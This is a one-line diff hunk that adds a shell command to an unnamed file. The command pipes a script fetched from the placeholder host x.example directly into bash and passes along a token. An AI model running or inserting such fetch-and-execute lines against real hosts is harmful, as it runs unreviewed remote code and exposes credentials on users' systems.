@@ -1,0 +1,1 @@
+curl -sSL https://x.example/agent | bash -s -- --token abc123
